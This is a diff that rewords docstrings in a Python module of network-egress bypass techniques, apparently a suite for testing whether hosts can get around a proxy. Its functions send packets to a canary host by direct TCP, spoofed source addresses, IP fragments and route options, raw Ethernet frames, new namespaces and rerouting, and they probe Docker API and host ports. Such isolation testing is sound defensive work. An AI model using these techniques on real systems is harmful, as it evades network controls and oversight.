@@ -1,4 +1,4 @@
-"""Techniques that send packets of every kind past the proxy, to destinations that no policy allows."""
+"""Techniques that send packets of every kind without the proxy, to destinations that no policy allows."""
 
 from __future__ import annotations
 
@@ -27,7 +27,7 @@ def payload(attack: Attack) -> bytes:
 
 @technique((*PLACES, PEER))
 def direct_tcp(attack: Attack) -> Iterator[Try]:
-    """Open TCP connections to the internet past the proxy, at common and uncommon ports."""
+    """Open TCP connections to the internet without the proxy, on common and uncommon ports."""
     for port in (80, 443, 53, 123, 853, 1080, 3128, 5228, 8080, 8443, 65535):
         yield attack.tries(f"port {port}", lambda port=port: tcp(attack.knowledge.canary, port, payload(attack)))
     yield attack.tries("by an IPv6 socket", lambda: tcp(f"::ffff:{attack.knowledge.canary}", 443, payload(attack)))
@@ -35,7 +35,7 @@ def direct_tcp(attack: Attack) -> Iterator[Try]:
 
 @technique(PLACES)
 def ports_of_mail_and_shells(attack: Attack) -> Iterator[Try]:
-    """Open TCP connections to ports of SSH and mail (22, 25, 465, 587), which firewalls often treat separately."""
+    """Open TCP connections to the SSH and mail ports (22, 25, 465, 587), which firewalls often treat separately."""
     for port in (22, 25, 465, 587):
         yield attack.tries(f"port {port}", lambda port=port: tcp(attack.knowledge.canary, port, payload(attack)))
 
@@ -91,7 +91,7 @@ def _checksum(data: bytes) -> int:
 
 @technique(PLACES)
 def few_hops(attack: Attack) -> Iterator[Try]:
-    """Send UDP with a low TTL, as traceroute does: its ICMP errors can show a packet that a firewall let pass."""
+    """Send UDP with a low TTL to the ports that traceroute uses."""
     for ttl in (1, 2, 3, 4):
         yield attack.tries(
             f"TTL {ttl}", lambda ttl=ttl: udp(attack.knowledge.canary, 33434 + ttl, payload(attack), ttl=ttl)
@@ -100,7 +100,7 @@ def few_hops(attack: Attack) -> Iterator[Try]:
 
 @technique(PLACES)
 def source_ports(attack: Attack) -> Iterator[Try]:
-    """Send TCP and UDP from source ports that careless rules accept: 20, 53, 67, 80, 443, and the proxy's own."""
+    """Send TCP and UDP from source ports that weak firewall rules accept: 20, 53, 67, 80, 443 and the proxy's port."""
     for port in (20, 53, 67, 80, 443, 8080, 8082):
         yield attack.tries(
             f"TCP from {port}",
@@ -130,7 +130,7 @@ def _raw(attack: Attack, protocol: int, data: bytes, options: bytes = b"") -> st
 
 @technique(PLACES)
 def ip_options_and_fragments(attack: Attack) -> Iterator[Try]:
-    """Send datagrams with source-route options, and fragments of which the first has no complete header."""
+    """Send datagrams with route options, and a datagram in two fragments, the one with the UDP header last."""
     udp_datagram = struct.pack("!HHHH", 40000, 53, 8 + len(payload(attack)), 0) + payload(attack)
     record_route = b"\x07\x0b\x04" + bytes(8) + b"\x01"
     loose_route = b"\x83\x07\x04" + socket.inet_aton(attack.knowledge.canary) + b"\x01"
@@ -142,7 +142,7 @@ def ip_options_and_fragments(attack: Attack) -> Iterator[Try]:
 def _fragments(attack: Attack, datagram: bytes) -> str:
     first, rest = datagram[:8], datagram[8:]
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
-        # 0x2000: more fragments follow; the offset counts in units of eight bytes.
+        # Flag 0x2000 means that more fragments follow. The offset is in units of eight bytes.
         for piece, flags in ((rest, 0x0001), (first, 0x2000)):
             sock.sendto(_ip_head(attack, len(piece), flags) + piece, (attack.knowledge.canary, 0))
     return ""
@@ -155,7 +155,7 @@ def _ip_head(attack: Attack, length: int, flags: int, source: str = "0.0.0.0") -
 
 @technique(PLACES)
 def borrowed_source_addresses(attack: Attack) -> Iterator[Try]:
-    """Send packets with the source address of the proxy, the gateway, another class or the host."""
+    """Send packets with a spoofed source address: that of the proxy, the gateway, another class or the host."""
     datagram = struct.pack("!HHHH", 40000, 53, 8 + len(payload(attack)), 0) + payload(attack)
     for source in (attack.knowledge.proxy[0], *attack.knowledge.hosts[:6]):
         if ":" not in source:
@@ -170,7 +170,7 @@ def _borrowed(attack: Attack, datagram: bytes, source: str) -> str:
 
 @technique(PLACES)
 def frames(attack: Attack) -> Iterator[Try]:
-    """Send raw Ethernet frames to broadcast and to each neighbour, past routes and the kernel's firewall rules."""
+    """Send raw Ethernet frames to broadcast and to each neighbour. They bypass routes and the local firewall rules."""
     datagram = struct.pack("!HHHH", 40000, 53, 8 + len(payload(attack)), 0) + payload(attack)
     packet = _ip_head(attack, len(datagram), 0, attack.knowledge.proxy[0]) + datagram
     # Columns: address, type, flags, hardware address, mask, device (proc_net(5)).
@@ -191,7 +191,7 @@ def _frame(interface: str, to: str, packet: bytes) -> str:
 
 @technique(PLACES)
 def other_transports(attack: Attack) -> Iterator[Try]:
-    """Use SCTP, DCCP, UDP-Lite and Multipath TCP, and TCP Fast Open with data in the first packet."""
+    """Use SCTP, DCCP, UDP-Lite, Multipath TCP, and TCP Fast Open, which sends data in the first packet."""
     kinds = {
         "SCTP": (socket.SOCK_STREAM, 132), "DCCP": (6, 33), "UDP-Lite": (socket.SOCK_DGRAM, 136),
         "Multipath TCP": (socket.SOCK_STREAM, 262),
@@ -265,7 +265,7 @@ def _scoped(address: str, port: int, index: int) -> str:
 def shouting(attack: Attack) -> Iterator[Try]:
     """Send broadcast and multicast (DHCP, mDNS, LLMNR, SSDP).
 
-    A response comes from a neighbour that should not be reachable.
+    Any response is evidence: it comes from a neighbour that must not be reachable.
     """
     for name, host, port in (
         ("broadcast", "255.255.255.255", 67), ("mDNS", "224.0.0.251", 5353), ("LLMNR", "224.0.0.252", 5355),
@@ -288,7 +288,7 @@ def _shout(attack: Attack, host: str, port: int) -> str:
 
 
 def _in_http(address: Address, path: str = "/") -> tuple[str, Callable[[], str]]:
-    """Return an attempt that sends HTTP directly to an address."""
+    """Return the name and function of an attempt that sends HTTP directly to an address."""
     host, port = address
     return f"{host}:{port}", lambda: tcp(host, port, f"GET {path} HTTP/1.0\r\n\r\n".encode())
 
@@ -322,24 +322,24 @@ def health_and_metrics(attack: Attack) -> Iterator[Try]:
 
 @technique((*ENFORCED, PEER))
 def addresses_of_hosts(attack: Attack) -> Iterator[Try]:
-    """Connect to ports of the gateway, VPS-1 and VPS-2, at each of their addresses, also those of bridges."""
+    """Connect to ports of the gateway, VPS-1 and VPS-2 at each of their addresses, bridge addresses included."""
     yield from _ports(attack, (22, 53, 80, 3100, 4318, 5355, 9090, 9428, 18789, 18790, 9222))
 
 
 def _ports(attack: Attack, ports: tuple[int, ...]) -> Iterator[Try]:
-    """Yield an HTTP request to each port of every host."""
+    """Send an HTTP request to each port of every host. Yield the attempts."""
     yield from attack.side_by_side(_in_http((host, port)) for host in attack.knowledge.hosts for port in ports)
 
 
 @technique((*ENFORCED, PEER))
 def docker_over_tcp(attack: Attack) -> Iterator[Try]:
-    """Connect to a Docker engine's API at 2375, 2376, 2377 and 4243 of every host."""
+    """Connect to the ports of the Docker Engine API (2375, 2376, 2377, 4243) on every host."""
     yield from _ports(attack, (2375, 2376, 2377, 4243))
 
 
 @technique(PLACES)
 def hosts_answer_pings(attack: Attack) -> Iterator[Try]:
-    """Ping the gateway, VPS-1, VPS-2 and the proxy: an echo response carries data."""
+    """Ping the gateway, VPS-1, VPS-2 and the proxy. An echo response could carry data, so it counts as a bypass."""
     if attack.knowledge.place == "gateway":
         hosts = tuple(host for host in attack.knowledge.hosts if host.startswith("10."))
     else:
@@ -384,7 +384,7 @@ def metadata_services(attack: Attack) -> Iterator[Try]:
 
 @technique(ENFORCED)
 def new_namespaces(attack: Attack) -> Iterator[Try]:
-    """Create a user namespace and a network namespace, in which an ordinary user has root's capabilities."""
+    """Create user and network namespaces. In a user namespace, an ordinary user has root's capabilities."""
     user, network = os.CLONE_NEWUSER, os.CLONE_NEWNET
     yield attack.tries(
         "network", lambda: _unshared(network, lambda: tcp(attack.knowledge.canary, 443, payload(attack)))
@@ -419,7 +419,7 @@ def _enter(attack: Attack, path: Path, own: Path) -> str:
 
 @technique(ENFORCED)
 def rerouting(attack: Attack) -> Iterator[Try]:
-    """Set another default route and firewall rules, which require CAP_NET_ADMIN."""
+    """Set another default route, which requires CAP_NET_ADMIN."""
     for gateway in (attack.knowledge.proxy[0], *attack.knowledge.hosts[:4]):
         if ":" not in gateway:
             yield attack.tries(f"via {gateway}", lambda gateway=gateway: _route(attack, gateway))
